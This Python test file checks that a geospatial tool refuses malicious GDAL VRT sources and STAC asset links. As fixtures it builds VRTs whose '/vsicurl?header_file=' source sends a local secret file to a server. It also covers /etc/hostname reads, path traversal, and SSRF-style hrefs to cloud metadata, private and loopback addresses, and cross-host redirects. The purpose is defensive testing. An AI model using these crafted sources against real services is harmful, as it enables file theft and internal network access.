"""Every VRT a run opens is held to the href rules, and an asset's URL stays on its host (issue 98,
points 1 and 2), driven against local HTTP servers in threads (127.0.0.1, and 127.0.0.2 as "another
host", as ``test_stac_security.py`` does).

1. A local VRT whose source is ``/vsicurl?header_file=SECRET&url=http://HOST/…`` made GDAL read SECRET
   and send its line as a header: given as ``--reference`` to ``predict`` and ``sharpen``, as the asset
   of a local Item, and inside another VRT. Now refused in one line naming the VRT and the source, exit
   2, nothing written, the host hearing nothing (``data/reads.check_open`` and ``paths_read``).
2. An Item's asset whose host redirects it to another host was followed by GDAL (libcurl), exit 0; and
   a remote Item could send bandbridge to a loopback port. Now refused before GDAL asks
   (``stac_io.on_host``, ``stac_io.resolve``)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import rasterio
from affine import Affine

pystac = pytest.importorskip("pystac", reason="pystac not installed (pip install 'bandbridge[stac]')")
from test_sharpen_read import refused  # noqa: E402
from test_sharpen_stac import item, scene  # noqa: E402,F401 - the fixture: a chip's band folder and its Item
from test_stac_security import SECRET, _answer, _leaked, _one_line, hosts  # noqa: E402,F401 - hosts: the fixture

HEADER_FILE = "/vsicurl?header_file={secret}&amp;url={url}/files/B05.tif"


def _vrt(path: Path, like: Path, source: str, relative: bool = False, k: int = 1) -> Path:
    """A one-band VRT on ``like``'s grid (its georeference: a reference the run would read) whose one
    source is ``source`` (XML-escaped already); ``k``: its pixels ``k`` times coarser."""
    from xml.sax.saxutils import escape
    with rasterio.open(like) as s:
        w, h, dtype, crs, tr = s.width // k, s.height // k, s.dtypes[0], s.crs, s.transform * Affine.scale(k)
    kind = {"uint16": "UInt16", "uint8": "Byte", "float32": "Float32"}[dtype]
    geo = (f"<SRS>{escape(crs.to_wkt())}</SRS><GeoTransform>{', '.join(repr(v) for v in tr.to_gdal())}</GeoTransform>"
           if crs else "")
    path.write_text(f'<?xml version="1.0"?>\n<VRTDataset rasterXSize="{w}" rasterYSize="{h}">{geo}'
                    f'<VRTRasterBand dataType="{kind}" band="1"><SimpleSource>'
                    f'<SourceFilename relativeToVRT="{int(relative)}">{source}</SourceFilename>'
                    '<SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>\n')
    return path


def _secret_vrt(tmp_path: Path, url: str, like: Path, name: str = "B05.vrt", k: int = 1) -> Path:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET + "\n")
    return _vrt(tmp_path / name, like, HEADER_FILE.format(secret=secret, url=url), k=k)


def _says(line: str, vrt: Path) -> None:
    assert f"{vrt}" in line and "its source '/vsicurl?header_file=" in line, line
    assert "GDAL's options form" in line, line


def test_a_local_vrt_reading_a_file_into_a_header_is_refused_by_sharpen(tmp_path, run_cli, scene, hosts):
    folder, _, _ = scene
    url, host = hosts(tmp_path)
    bad = _secret_vrt(tmp_path, url, tmp_path / "files" / "B05.tif")
    _says(refused(run_cli, tmp_path, str(folder), "--reference", str(bad), "-o", str(tmp_path / "o.tif")), bad)
    assert not host.heard and not _leaked(host)


def test_a_local_vrt_reading_a_file_into_a_header_is_refused_by_predict(tmp_path, run_cli, hosts):
    from test_reference import aerial
    url, host = hosts(tmp_path)
    _, rgb, _, _ = aerial(tmp_path)
    bad = _secret_vrt(tmp_path, url, rgb, "nir.vrt", k=4)
    code, _, err = run_cli("predict", str(rgb), "-m", "rgb2nir", "--reference", str(bad), "-o",
                           str(tmp_path / "o.tif"))
    _says(_one_line(code, err), bad)
    assert not (tmp_path / "o.tif").exists() and not host.heard


def test_a_local_items_vrt_asset_and_a_vrt_of_vrts_are_refused(tmp_path, run_cli, scene, hosts):
    """The trial's Item (B05 a local VRT) and a VRT whose source is that VRT (the refusal names the VRT
    holding the source and the one given)."""
    folder, _, hrefs = scene
    url, host = hosts(tmp_path)
    bad = _secret_vrt(tmp_path, url, tmp_path / "files" / "B05.tif")
    evil = item(tmp_path / "evil.json", hrefs | {"B05": "./B05.vrt"})
    _says(refused(run_cli, tmp_path, str(folder), "--reference", str(evil), "-o", str(tmp_path / "o.tif")), bad)
    outer = _vrt(tmp_path / "outer.vrt", tmp_path / "files" / "B05.tif", "B05.vrt", relative=True)
    line = refused(run_cli, tmp_path, str(folder), "--reference", str(outer), "-o", str(tmp_path / "o.tif"))
    _says(line, bad)
    assert f"(read through {outer})" in line, line
    assert not host.heard and not _leaked(host)


BAD_SOURCES = {
    "options, entity-escaped": "/vsicurl&#63;header_file=/etc/hostname&amp;url=http://h/x.tif",
    "options in a nested handler": "/vsigzip//vsicurl?header_file=/etc/hostname&amp;url=http://h/x.gz",
    "another /vsi path": "/vsizip//tmp/a.zip/x.tif",
    "a connection string": "HDF5:/tmp/x.h5://band",
    "vrt://": "vrt:///tmp/x.tif?bands=1",
    "a bare URL": "http://127.0.0.1:9/x.tif",
    "inline XML": "&lt;VRTDataset&gt;&lt;/VRTDataset&gt;",
    "up to /vsi": "../../../../../../../../vsicurl/http://h/x.tif",
}


@pytest.mark.parametrize("case", list(BAD_SOURCES))
def test_every_source_gdal_would_take_options_or_another_reader_from_is_refused(tmp_path, case):
    """By the reader's open (``formats.open_raster``) and the output guard's list (``paths_read``)
    alike, named in one line; also with a lower-case tag, which GDAL's parser reads too."""
    from bandbridge.data.formats import open_raster
    from bandbridge.data.reads import paths_read
    from bandbridge.errors import BandbridgeError
    from test_reference import aerial
    _, rgb, _, _ = aerial(tmp_path)
    vrt = _vrt(tmp_path / "x.vrt", rgb, BAD_SOURCES[case], relative=case == "up to /vsi")
    low = tmp_path / "low.tif"  # a VRT named .tif, its tag in lower case: GDAL opens it as a VRT all the same
    low.write_text(vrt.read_text().replace("SourceFilename", "sourcefilename"))
    for f in (vrt, low):
        for read in (open_raster, paths_read):
            with pytest.raises(BandbridgeError) as e:
                read(f)
            said = str(e.value)
            assert said.startswith(f"{f}: its source '") and "\n" not in said, said


def test_a_vrt_with_a_dtd_or_xml_no_parser_checks_is_refused(tmp_path):
    from bandbridge.data.reads import check_open
    from bandbridge.errors import BandbridgeError
    for text, why in [('<!DOCTYPE x [<!ENTITY e "/vsicurl?">]><VRTDataset rasterXSize="1" rasterYSize="1"/>', "DTD"),
                      ('<VRTDataset rasterXSize="1"><VRTRasterBand></VRTDataset>', "cannot be checked")]:
        (tmp_path / "x.vrt").write_text(text)
        with pytest.raises(BandbridgeError, match=why):
            check_open(tmp_path / "x.vrt")


def test_network_sources_are_read_as_geotiff_only(tmp_path, hosts):
    """A local VRT's ``/vsicurl/`` source that is a GeoTIFF passes; one whose bytes are a VRT (naming
    the secret) is refused before a pixel is read, and nothing is sent with the secret."""
    from bandbridge.data.reads import check_open
    from bandbridge.errors import BandbridgeError
    from test_reference import aerial
    url, host = hosts(tmp_path)
    _, rgb, _, _ = aerial(tmp_path)
    (tmp_path / "files").mkdir()
    (tmp_path / "files" / "B05.tif").write_bytes(rgb.read_bytes())
    check_open(_vrt(tmp_path / "ok.vrt", rgb, f"/vsicurl/{url}/files/B05.tif"))
    (tmp_path / "evil.tif").write_text(_secret_vrt(tmp_path, url, rgb, "inner.vrt").read_text())
    bad = _vrt(tmp_path / "bad.vrt", rgb, f"/vsicurl/{url}/evil.tif")
    with pytest.raises(BandbridgeError) as e:
        check_open(bad)
    assert str(e.value).startswith(f"{bad}: its source '/vsicurl/{url}/evil.tif': a file over the network is read "
                                   "as GeoTIFF or JPEG 2000 only"), str(e.value)
    assert not _leaked(host) and not [r for r in host.heard if r[1] == "/files/B05.tif" and "Secret" in r[2]]


def test_an_assets_redirect_to_another_host_is_refused_before_gdal_asks(tmp_path, run_cli, scene, hosts):
    """A remote Item's relative href, and a local Item's absolute href, that the Item's host redirects
    to 127.0.0.2: refused saying where it went, that host hearing nothing (GDAL followed it, exit 0)."""
    folder, _, hrefs = scene
    url, host = hosts(tmp_path)
    other, far = hosts(tmp_path, "127.0.0.2")
    host.routes["/away/B05.tif"] = lambda h: _answer(h, 302, Location=f"{other}/files/B05.tif")
    item(tmp_path / "rel.json", {b: f"./files/{b}.tif" for b in hrefs} | {"B05": "./away/B05.tif"})
    line = refused(run_cli, tmp_path, str(folder), "--reference", f"{url}/rel.json", "-o", str(tmp_path / "o.tif"))
    assert f"the server redirects it to {other}/files/B05.tif, another host than the one named" in line, line
    assert f"asset 'rededge1' ({url}/away/B05.tif)" in line, line
    local = item(tmp_path / "abs.json", hrefs | {"B05": f"{url}/away/B05.tif"})
    line = refused(run_cli, tmp_path, str(folder), "--reference", str(local), "-o", str(tmp_path / "o.tif"))
    assert f"the server redirects it to {other}/files/B05.tif" in line, line
    assert far.heard == []


def test_predicts_item_asset_redirected_off_its_host_is_refused(tmp_path, run_cli, hosts):
    from test_stac import _item_with_band_assets
    url, host = hosts(tmp_path)
    other, far = hosts(tmp_path, "127.0.0.2")
    src = tmp_path / "item"
    src.mkdir()
    path = _item_with_band_assets(src)
    host.routes["/B1.tif"] = lambda h: _answer(h, 302, Location=f"{other}/item/B1.tif")
    d = json.loads(path.read_text())
    d["assets"]["B1"]["href"] = f"{url}/B1.tif"
    path.write_text(json.dumps(d))
    code, _, err = run_cli("predict", str(path), "-m", "rgb2nir-naip", "-o", str(tmp_path / "out"))
    assert f"redirects it to {other}/item/B1.tif" in _one_line(code, err), err
    assert far.heard == [] and not (tmp_path / "out").exists()


def test_a_remote_item_naming_a_loopback_port_is_refused(tmp_path, run_cli, scene, hosts):
    """Served from 127.0.0.1:P, an Item naming 127.0.0.2:Q or localhost:Q (this machine, another port):
    refused, that server hearing nothing. A local Item may name it (the tests' own servers)."""
    folder, _, hrefs = scene
    url, host = hosts(tmp_path)
    other, far = hosts(tmp_path, "127.0.0.2")
    port = other.rsplit(":", 1)[1]
    for name, href in (("ip", f"{other}/files/B05.tif"), ("name", f"http://localhost:{port}/files/B05.tif")):
        item(tmp_path / f"{name}.json", {b: f"./files/{b}.tif" for b in hrefs} | {"B05": href})
        line = refused(run_cli, tmp_path, str(folder), "--reference", f"{url}/{name}.json", "-o",
                       str(tmp_path / "o.tif"))
        assert f"asset 'rededge1' ({href}): a remote document's href to a loopback or private address" in line, line
    assert far.heard == []


@pytest.mark.parametrize("href,base,ok", [
    ("http://10.0.0.5/x.tif", "https://stac.example.com/item.json", False),
    ("http://169.254.169.254/latest/meta-data", "https://stac.example.com/item.json", False),
    ("http://[::1]:8080/x.tif", "https://stac.example.com/item.json", False),
    ("http://127.0.0.1:8080/x.tif", "http://127.0.0.1:8080/item.json", True),  # its own host
    ("http://127.0.0.1:9999/x.tif", "/data/item.json", True),  # a local document
])
def test_which_internal_hrefs_a_document_may_name(href, base, ok):
    from bandbridge.errors import BandbridgeError
    from bandbridge.inference.interop.stac_io import resolve
    if ok:
        assert resolve(href, base, "x") == href
    else:
        with pytest.raises(BandbridgeError, match="loopback or private address"):
            resolve(href, base, "x")


def test_an_api_items_hrefs_resolve_at_the_api_not_where_it_claims():
    """An API's Item is a remote document at the API's URL: its self link elsewhere (a local path, a
    loopback URL) does not make its hrefs local files or loopback requests."""
    import datetime

    from bandbridge.errors import BandbridgeError
    from bandbridge.inference.interop import stac_search
    it = pystac.Item("x", None, None, datetime.datetime(2020, 6, 1), {})
    it.add_asset("B04", pystac.Asset("/etc/hostname"))
    it.add_asset("B08", pystac.Asset("http://127.0.0.1:9/x.tif"))
    it.set_self_href("/tmp/claimed/item.json")
    setattr(it, stac_search._AT, "https://api.example.com/v1/search")
    assert stac_search._href(it, "B04") == "/vsicurl/https://api.example.com/etc/hostname"
    with pytest.raises(BandbridgeError, match="loopback or private address"):
        stac_search._href(it, "B08")


def test_on_host_hands_gdal_where_a_redirect_within_the_host_ends(tmp_path, hosts):
    from bandbridge.inference.interop import stac_io
    url, host = hosts(tmp_path)
    (tmp_path / "new.tif").write_bytes(b"II*\0" + b"\0" * 60)
    host.routes["/old.tif"] = lambda h: _answer(h, 302, Location="/new.tif")
    stac_io.forget()
    assert stac_io.on_host(f"/vsicurl/{url}/old.tif", "x") == f"/vsicurl/{url}/new.tif"
    assert stac_io.on_host("/data/B05.tif", "x") == "/data/B05.tif"


def test_a_fill_dates_asset_redirected_off_its_host_is_refused_before_gdal_opens_it(tmp_path, hosts):
    """A date `-e stac` found: its asset, redirected by its host to 127.0.0.2, is refused in one line naming the
    Item and where it went, before GDAL opens it (it was checked only after GDAL's first open): the other host
    hears nothing."""
    from types import SimpleNamespace

    from bandbridge.errors import BandbridgeError
    from bandbridge.inference.place.fill_stac import _opened
    url, host = hosts(tmp_path)
    other, far = hosts(tmp_path, "127.0.0.2")
    host.routes["/away/B05.tif"] = lambda h: _answer(h, 302, Location=f"{other}/files/B05.tif")
    with pytest.raises(BandbridgeError) as e:
        with _opened(f"/vsicurl/{url}/away/B05.tif", "stac", "-e", SimpleNamespace(id="S2X")):
            pass
    assert "Item S2X's asset" in str(e.value) and f"redirects it to {other}/files/B05.tif" in str(e.value), e.value
    assert far.heard == []
